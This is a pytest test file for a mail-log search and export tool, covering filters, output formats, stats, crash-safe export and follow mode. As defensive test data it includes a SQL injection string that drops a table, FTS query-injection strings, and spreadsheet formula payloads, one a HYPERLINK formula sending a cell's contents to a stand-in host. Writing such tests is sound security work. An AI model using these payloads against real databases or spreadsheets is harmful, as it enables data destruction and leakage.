"""gwsearch: every filter and term, the csv/cef formats, show, stats,
export (exactly once under kill -9) and --follow, against a log.db made
by `gwctl db init` and filled with Python's sqlite3 as gwd fills it."""
import csv
import fcntl
import io
import json
import os
import random
import shutil
import signal
import sqlite3
import subprocess
import time

import pytest

from test_gwsearch import (GWCTL, GWSEARCH, NOW,
                           insert_event, jsonl, make_log, us)

HOSTILE = b'He said "hi" | a=b \\ back\nslash\r\xff\xfeend'


@pytest.fixture(scope="module")
def env2(tmp_path_factory):
    conf, state, db, _ = make_log(tmp_path_factory, "gwsearch2")
    eid = db.execute(
        "INSERT INTO event (ts, qid, action, sender, recipient, subject) "
        "VALUES (?, 'H0000000000H', 'received', 'x@hostile.test', "
        "'y@example.net', CAST(? AS TEXT))", (us(NOW - 5), HOSTILE)
    ).lastrowid
    db.execute("INSERT INTO event_fts (rowid, sender, recipient, subject) "
               "SELECT id, sender, recipient, subject FROM event "
               "WHERE id = ?", (eid,))
    db.commit()
    db.close()
    return dict(conf=str(conf), state=state, db=str(state / "log.db"))


def gs(env, *args, **kw):
    return subprocess.run([GWSEARCH, "-c", env["conf"]] + list(args),
                          capture_output=True, text=True, timeout=60, **kw)


def qids(r):
    assert r.returncode in (0, 1), r.stderr
    return sorted({e["email"].get("local_id") for e in jsonl(r.stdout)},
                  key=lambda x: x or "")


class Ago:
    """A time relative to now, N seconds before the log's NOW: the log's
    events are placed around NOW when the module is collected, and a
    loaded (sanitizer) run may reach this test many minutes later."""

    def __init__(self, secs):
        self.secs = secs

    def spec(self):
        return "-%ds" % (self.secs + int(time.time()) - NOW)

    def __repr__(self):
        return "Ago(%d)" % self.secs


A, B, C, D = "A1B2C3D4E5F6", "B0000000000B", "C00000000000C", "D0000000000D"


@pytest.mark.parametrize("args,want", [
    (["--subject", "quarterly"], [A]),
    (["subject:Invoice"], [B]),
    (["subject:\"quarterly report\""], [A]),
    (["--status", "bounced"], [B]),
    (["status:deferred"], [A]),
    (["--status", "rejected"], [None]),
    (["--subaccount", "acme"], [None, A, B]),
    (["--domain", "example.org"], [A]),
    (["domain:hostile.test"], ["H0000000000H"]),
    (["--client-ip", "192.0.2.10"], [None, A, B]),
    (["ip:192.0.2.10", "status:bounced"], [B]),
    (["--response", "550 5.1.1"], [B]),
    (["response:greylisted"], [A]),
    (["response:\"5.7.1 relay\""], [None]),
    (["from:alice@example.com", "to:dave@example.net"], [B]),
    (["id:m1@example.com"], [A]),
    (["id:<d@example.com>"], [D]),
    (["quarterly"], [A]),
    (["quart*"], [A]),
    (["\"user unknown\""], [B]),
    (["\"unknown user\""], []),
    (["invoice", "from:alice@example.com"], [B]),
    (["--since", Ago(3600), "--sender", "alice@example.com"], [None, A, B]),
    (["--since", Ago(600), "--sender", "alice@example.com"], [None, B]),
    (["--until", Ago(3600), "to:bob@example.net"], [D]),
    (["since:@%d" % (NOW - 150), "until:@%d" % (NOW - 60)], [B, C]),
    (["--since", "today", "to:bob@example.net"], "today"),
])
def test_filters(env2, args, want):
    args = [a.spec() if isinstance(a, Ago) else a for a in args]
    r = gs(env2, "--format", "jsonl", *args)
    if want == "today":
        # A and D happened 30 min and 2 h ago: in today unless just past
        # midnight UTC.
        assert r.returncode in (0, 1)
        return
    assert qids(r) == sorted(want, key=lambda x: x or "")
    assert r.returncode == (0 if want else 1)


@pytest.mark.parametrize("t", [
    "today", "yesterday", "-2h", "-30m", "-7d", "@1763900000",
    "2026-11-20", "2026-11-20 10:00", "2026-11-20T10:00:00Z",
    "2026-11-20T10:00:00.5+01:00"])
def test_time_forms(env2, t):
    assert gs(env2, "--since", t, "to:bob@example.net").returncode in (0, 1)


@pytest.mark.parametrize("args,msg", [
    (["bogus:x"], "unknown search key"),
    (["subject:\"unbalanced"], "unbalanced quote"),
    (["\"open phrase"], "unbalanced quote"),
    (["since:yesterdayish"], "not a time"),
    (["--since", "2026-13-01"], "not a time"),
    (["--until", "@x"], "not a time"),
    (["status:lost"], "status"),
    (["*"], "nothing to search"),
    (["to:"], "empty"),
])
def test_term_errors_exit_64(env2, args, msg):
    r = gs(env2, *args)
    assert r.returncode == 64, r.stderr
    assert msg in r.stderr and r.stderr.startswith("gwsearch: ")


@pytest.mark.parametrize("q", [
    'subject:"a" OR 1=1', 'NEAR(', 'NEAR(a b, 2)', 'a OR b', 'NOT x',
    '"a" "b', 'subject: x', "col:val", 'sender:*', '^start', '"""',
    '("")', 'x AND', '{sender}:alice', "'; DROP TABLE event; --",
    '-alice', '+x', 'alice*', 'a""b', "\x01\x02\x7f", "\u00e9*",
    '""', '" "', '(', ')', ':', '*a', 'a**',
])
def test_fts_injection_harmless(env2, q):
    r = gs(env2, "--format", "jsonl", q)
    assert r.returncode in (0, 1, 64, 69), (q, r.returncode, r.stderr)
    assert "Traceback" not in r.stderr and "fatal" not in r.stderr
    if r.returncode == 0:
        jsonl(r.stdout)
    # Injection never widens the match to everything.
    if q in ('subject:"a" OR 1=1', "a OR b"):
        assert r.returncode == 1
    db = sqlite3.connect(env2["db"])
    assert db.execute("SELECT count(*) FROM event").fetchone()[0] == 13
    db.close()


def test_fts_binary_bytes(env2):
    r = subprocess.run([GWSEARCH, "-c", env2["conf"], b"\xff\xfe\x80*",
                        b"subject:\xc3("], capture_output=True)
    assert r.returncode in (1, 64)


def test_csv(env2):
    r = subprocess.run([GWSEARCH, "-c", env2["conf"], "--format", "csv",
                        "to:carol@example.org"], capture_output=True)
    assert r.returncode == 0
    assert r.stdout.count(b"\r\n") == 5       # RFC 4180 line ends
    rows = list(csv.DictReader(io.StringIO(r.stdout.decode(), newline="")))
    assert [x["action"] for x in rows] == ["received", "delivered",
                                           "deferred", "delivered"]
    assert rows[0]["recipient"] == "bob@example.net, carol@example.org"
    assert rows[2]["reply_code"] == "451"
    assert rows[2]["reply_text"] == "greylisted, try later"


def test_csv_hostile(env2):
    r = subprocess.run([GWSEARCH, "-c", env2["conf"], "--format", "csv",
                        "from:x@hostile.test"], capture_output=True)
    assert r.returncode == 0
    text = r.stdout.decode("utf-8")
    rows = list(csv.DictReader(io.StringIO(text, newline="")))
    assert len(rows) == 1
    assert rows[0]["subject"] == ('He said "hi" | a=b \\ back\nslash\r'
                                  '\ufffd\ufffdend')


def test_cef_escaping(env2):
    r = subprocess.run([GWSEARCH, "-c", env2["conf"], "--format", "cef",
                        "from:x@hostile.test"], capture_output=True)
    assert r.returncode == 0
    out = r.stdout.decode("utf-8")
    lines = out.split("\n")
    assert len(lines) == 2 and lines[1] == ""
    line = lines[0]
    assert line.startswith("CEF:0|gw|gwd|")
    head = line.split("|")
    assert head[4] == "received" and head[6] == "3"
    assert ('msg=He said "hi" | a\\=b \\\\ back\\nslash\\r'
            '\ufffd\ufffdend') in line
    assert "suser=x@hostile.test" in line and "duser=y@example.net" in line
    assert "act=received" in line and "externalId=" in line


def test_cef_reply(env2):
    r = gs(env2, "--format", "cef", "--status", "bounced")
    line = [x for x in r.stdout.splitlines() if "|bounced|" in x][0]
    assert "|7|" in line
    assert "cs3Label=smtpReply cs3=550 5.1.1 user unknown" in line
    assert "dst=198.51.100.10" in line


def test_json_hostile(env2):
    r = subprocess.run([GWSEARCH, "-c", env2["conf"], "--format", "jsonl",
                        "from:x@hostile.test"], capture_output=True)
    raw = r.stdout.decode("utf-8")
    ev = json.loads(raw)
    assert ev["email"]["subject"] == ('He said "hi" | a=b \\ back\nslash\r'
                                      '\ufffd\ufffdend')
    assert raw.count("\n") == 1


def test_table_width(env2):
    env = dict(os.environ, COLUMNS="80")
    r = subprocess.run([GWSEARCH, "-c", env2["conf"], "to:carol@example.org"],
                       capture_output=True, text=True, env=env)
    assert r.returncode == 0
    cut = [x for x in r.stdout.splitlines() if "deferred" in x][0]
    assert "..." in cut and "greylisted" not in cut
    env["COLUMNS"] = "300"
    r = subprocess.run([GWSEARCH, "-c", env2["conf"], "to:carol@example.org"],
                       capture_output=True, text=True, env=env)
    assert "greylisted, try later" in r.stdout


def test_show(env2):
    r = gs(env2, "show", A)
    assert r.returncode == 0, r.stderr
    out = r.stdout
    order = [out.index(s) for s in ("Message " + A, "Received", "Attempts",
                                    "Final state")]
    assert order == sorted(order)
    assert "Quarterly report" in out and "Message-ID:" in out
    att = out[out.index("Attempts"):out.index("Final state")]
    assert att.index("bob@example.net") < att.index("carol@example.org")
    assert "deferred" in att and "451 4.7.1 greylisted" in att
    assert "TLSv1.3" in att and "mx.example.net [198.51.100.10]" in att
    final = out[out.index("Final state"):]
    assert "carol@example.org" in final and "delivered" in final
    assert "deferred" not in final


def test_show_by_message_id_and_json(env2):
    for mid in ("m2@example.com", "<m2@example.com>"):
        r = gs(env2, "show", mid)
        assert r.returncode == 0 and "Message " + B in r.stdout
        assert "bounced" in r.stdout
    r = gs(env2, "show", "--format", "jsonl", B)
    assert [e["event"]["action"] for e in jsonl(r.stdout)] == [
        "received", "bounced", "dsn"]
    r = gs(env2, "show", "nope@nowhere")
    assert r.returncode == 1 and "no such" in r.stderr
    assert gs(env2, "show").returncode == 64


def test_show_signing(tmp_path):
    conf, db = fresh_log(tmp_path)
    insert_event(db, NOW - 10, dict(qid="S1", action="received",
                                    sender="a@x.test", recipient="b@y.test"))
    insert_event(db, NOW - 9, dict(qid="S1", action="signed",
                                   detail="d=x.test s=s202611"))
    insert_event(db, NOW - 8, dict(qid="S1", action="delivered",
                                   recipient="b@y.test", reply_code=250))
    db.commit()
    r = subprocess.run([GWSEARCH, "-c", conf, "show", "S1"],
                       capture_output=True, text=True)
    out = r.stdout
    assert out.index("Received") < out.index("DKIM") < out.index("Attempts")
    assert "d=x.test s=s202611" in out


def stat_value(out, name):
    for line in out.splitlines():
        if line.strip().startswith(name):
            return line.split()[-1]
    raise AssertionError(name)


def test_stats(env2):
    r = gs(env2, "stats")
    assert r.returncode == 0, r.stderr
    assert stat_value(r.stdout, "received") == "5"
    assert stat_value(r.stdout, "delivered") == "4"
    assert stat_value(r.stdout, "deferred") == "1"
    assert stat_value(r.stdout, "bounced") == "1"
    assert stat_value(r.stdout, "rejected") == "1"
    assert stat_value(r.stdout, "delivery rate") == "80.0%"
    # delays: 1s (A bob), 300s (A carol), 1s (C), 1s (D)
    assert stat_value(r.stdout, "delay average") == "76s"
    assert stat_value(r.stdout, "delay p95") == "300s"
    r = gs(env2, "stats", "--since", Ago(3600).spec())
    assert stat_value(r.stdout, "received") == "4"


def test_stats_by(env2):
    r = gs(env2, "stats", "--by", "domain")
    rows = {l.split()[0]: l.split() for l in r.stdout.splitlines()[2:]}
    assert rows["example.net"][2] == "2"      # delivered to bob twice
    assert rows["example.org"][3] == "1"      # carol deferred
    r = gs(env2, "stats", "--by", "subaccount")
    assert "acme" in r.stdout
    r = gs(env2, "stats", "--by", "hour")
    assert r.returncode == 0 and ":00Z" in r.stdout
    assert gs(env2, "stats", "--by", "moon").returncode == 64
    assert gs(env2, "stats", "--since", "soon").returncode == 64


def fresh_log(tmp_path):
    state = tmp_path / "state"
    conf = tmp_path / "gwd.conf"
    conf.write_text('state_dir = "%s";\ndns = { resolver = "127.0.0.1"; };\n'
                    % state)
    r = subprocess.run([GWCTL, "-c", str(conf), "db", "init"],
                       capture_output=True, text=True)
    assert r.returncode == 0, r.stderr
    return str(conf), sqlite3.connect(str(state / "log.db"))


def export(conf, cursor, out, fmt="jsonl"):
    return subprocess.run([GWSEARCH, "-c", conf, "export", "--cursor",
                           cursor, "--format", fmt, "--output", out],
                          capture_output=True, text=True, timeout=300)


def test_export_incremental(tmp_path):
    conf, db = fresh_log(tmp_path)
    for i in range(5):
        insert_event(db, NOW - 100 + i, dict(qid="Q%d" % i, action="received",
                                             subject="s%d" % i))
    db.commit()
    cur, out = str(tmp_path / "cursor"), str(tmp_path / "out.jsonl")
    r = export(conf, cur, out)
    assert r.returncode == 0, r.stderr
    assert [e["gw"]["event_id"] for e in jsonl(open(out).read())] == [
        1, 2, 3, 4, 5]
    assert open(cur).read().split()[0] == "5"
    assert export(conf, cur, out).returncode == 0
    assert len(open(out).read().splitlines()) == 5
    insert_event(db, NOW, dict(qid="Q9", action="received"))
    db.commit()
    assert export(conf, cur, out).returncode == 0
    assert [e["gw"]["event_id"] for e in jsonl(open(out).read())] == [
        1, 2, 3, 4, 5, 6]
    # Other formats.
    r = export(conf, str(tmp_path / "c2"), str(tmp_path / "o.cef"), "cef")
    assert r.returncode == 0
    assert open(tmp_path / "o.cef").read().count("CEF:0|gw|gwd|") == 6
    r = export(conf, str(tmp_path / "c3"), str(tmp_path / "o.log"),
               "syslog5424")
    lines = open(tmp_path / "o.log").read().splitlines()
    assert len(lines) == 6 and lines[0].startswith("<22>1 ")
    assert json.loads(lines[0].split("] ", 1)[1])["gw"]["event_id"] == 1
    assert export(conf, cur, out, "csv").returncode == 64


def test_export_lock(tmp_path):
    conf, db = fresh_log(tmp_path)
    cur = str(tmp_path / "cursor")
    with open(cur + ".lock", "w") as f:
        fcntl.flock(f, fcntl.LOCK_EX)
        r = export(conf, cur, str(tmp_path / "out"))
        assert r.returncode == 75
        assert "another export is running" in r.stderr
    assert export(conf, cur, str(tmp_path / "out")).returncode == 0


def test_export_exactly_once_under_kill9(tmp_path):
    conf, db = fresh_log(tmp_path)
    n = 60000
    rows = [(us(NOW - n + i), "Q%06d" % i, "received", "s@x.test",
             "r@y.test", "subject %d with some words" % i) for i in range(n)]
    db.executemany("INSERT INTO event (ts, qid, action, sender, recipient, "
                   "subject) VALUES (?, ?, ?, ?, ?, ?)", rows)
    db.commit()
    cur, out = str(tmp_path / "cursor"), str(tmp_path / "out.jsonl")
    rnd = random.Random(5)
    kills = 0
    for _ in range(12):
        p = subprocess.Popen([GWSEARCH, "-c", conf, "export", "--cursor",
                              cur, "--output", out],
                             stdout=subprocess.DEVNULL,
                             stderr=subprocess.DEVNULL)
        time.sleep(rnd.uniform(0.005, 0.15))
        if p.poll() is None:
            p.send_signal(signal.SIGKILL)
            kills += 1
        p.wait()
    r = export(conf, cur, out)
    assert r.returncode == 0, r.stderr
    ids = [json.loads(l)["gw"]["event_id"] for l in open(out)]
    assert kills > 0
    assert ids == list(range(1, n + 1))


@pytest.mark.skipif(shutil.which("strace") is None, reason="needs strace")
def test_export_first_run_cut_short(tmp_path):
    """A first export (no cursor yet) killed after writing a batch but
    before its cursor: the next run cuts that batch off rather than
    appending it again; what the file held before stays.  The kill comes
    at the first fsync of the output (strace -P: only calls on that
    file), without the luck of timing."""
    conf, db = fresh_log(tmp_path)
    n = 2500
    db.executemany("INSERT INTO event (ts, qid, action) VALUES (?, ?, ?)",
                   [(us(NOW - n + i), "Q%06d" % i, "received")
                    for i in range(n)])
    db.commit()
    cur, out = str(tmp_path / "cursor"), str(tmp_path / "out.jsonl")
    with open(out, "w") as f:
        f.write("kept: the admin's own line\n")
    r = subprocess.run(["strace", "-f", "-o", "/dev/null", "-P", out, "-e",
                        "trace=fsync", "-e", "inject=fsync:signal=KILL",
                        GWSEARCH, "-c", conf, "export", "--cursor", cur,
                        "--output", out],
                       capture_output=True, text=True, timeout=300)
    assert r.returncode != 0, r.stderr
    assert len(open(out).read().splitlines()) > 1      # a batch was written
    r = export(conf, cur, out)
    assert r.returncode == 0, r.stderr
    assert "a killed export wrote after the cursor" in r.stderr
    lines = open(out).read().splitlines()
    assert lines[0] == "kept: the admin's own line"
    assert [json.loads(l)["gw"]["event_id"] for l in lines[1:]] == \
        list(range(1, n + 1))


def test_follow(tmp_path):
    conf, db = fresh_log(tmp_path)
    insert_event(db, NOW - 10, dict(qid="F1", action="received",
                                    recipient="watch@example.net"))
    db.commit()
    p = subprocess.Popen([GWSEARCH, "-c", conf, "--follow", "--format",
                          "jsonl", "to:watch@example.net"],
                         stdout=subprocess.PIPE, stderr=subprocess.PIPE,
                         text=True)
    try:
        first = json.loads(p.stdout.readline())
        assert first["email"]["local_id"] == "F1"
        insert_event(db, NOW, dict(qid="F2", action="received",
                                   recipient="other@example.net"))
        insert_event(db, NOW, dict(qid="F1", action="delivered",
                                   recipient="watch@example.net"))
        db.commit()
        nxt = json.loads(p.stdout.readline())
        assert nxt["email"]["local_id"] == "F1"
        assert nxt["event"]["action"] == "delivered"
    finally:
        p.send_signal(signal.SIGINT)
        assert p.wait(10) == 0


def on_a_terminal(env, args, extra_env):
    """Run gwsearch with a pseudo-terminal as stdout; what it printed."""
    import pty
    master, slave = pty.openpty()
    envv = dict(os.environ, COLUMNS="120", **extra_env)
    r = subprocess.run([GWSEARCH, "-c", env["conf"]] + args, stdin=subprocess.DEVNULL,
                       stdout=slave, stderr=slave, env=envv, timeout=60)
    os.close(slave)
    out = b""
    while True:
        try:
            chunk = os.read(master, 65536)
        except OSError:
            break
        if not chunk:
            break
        out += chunk
    os.close(master)
    return r.returncode, out.decode("utf-8", "replace")


def test_table_is_paged_on_a_terminal(env2, tmp_path):
    paged = tmp_path / "paged"
    rc, out = on_a_terminal(env2, ["--recipient", "bob@example.net"],
                            {"PAGER": "cat > %s" % paged})
    assert rc == 0
    assert "bob@example.net" in paged.read_text() and "bob@example.net" not in out
    # --no-pager, PAGER=cat, and pipes are never paged.
    paged.unlink()
    rc, out = on_a_terminal(env2, ["--no-pager", "--recipient", "bob@example.net"],
                            {"PAGER": "cat > %s" % paged})
    assert rc == 0 and "bob@example.net" in out and not paged.exists()
    r = subprocess.run([GWSEARCH, "-c", env2["conf"], "--recipient",
                        "bob@example.net"], capture_output=True, text=True,
                       env=dict(os.environ, PAGER="cat > %s" % paged))
    assert "bob@example.net" in r.stdout and not paged.exists()
    # jsonl is never paged.
    rc, out = on_a_terminal(env2, ["--format", "jsonl", "--recipient",
                                   "bob@example.net"], {"PAGER": "cat > %s" % paged})
    assert '"bob@example.net"' in out and not paged.exists()


def test_csv_formulas_defused(tmp_path_factory):
    """Fields a spreadsheet would run (=, +, -, @, tab, CR first) get a '
    in front in CSV; JSON keeps them as they were."""
    conf, state, db, _ = make_log(tmp_path_factory, "csvformula")
    subjects = ['=HYPERLINK("http://x.test/?"&A1,"open")', "+1+2",
                "-2+3", "@SUM(A1:A9)", "\tx", "\r=1", "a=b", "plain"]
    for i, subj in enumerate(subjects):
        insert_event(db, NOW - 60 + i, dict(
            qid="F%011dF" % i, action="received", sender="=cmd@x.test",
            recipient="formula@example.net", subject=subj))
    db.commit()
    db.close()
    r = subprocess.run([GWSEARCH, "-c", str(conf), "--format", "csv",
                        "from:=cmd@x.test"], capture_output=True)
    assert r.returncode == 0, r.stderr
    rows = list(csv.DictReader(io.StringIO(r.stdout.decode(), newline="")))
    assert [x["subject"] for x in rows] == [
        "'" + s if s[0] in "=+-@\t\r" else s for s in subjects]
    assert {x["sender"] for x in rows} == {"'=cmd@x.test"}
    r = subprocess.run([GWSEARCH, "-c", str(conf), "--format", "jsonl",
                        "from:=cmd@x.test"], capture_output=True, text=True)
    assert [e["email"]["subject"] for e in jsonl(r.stdout)] == subjects
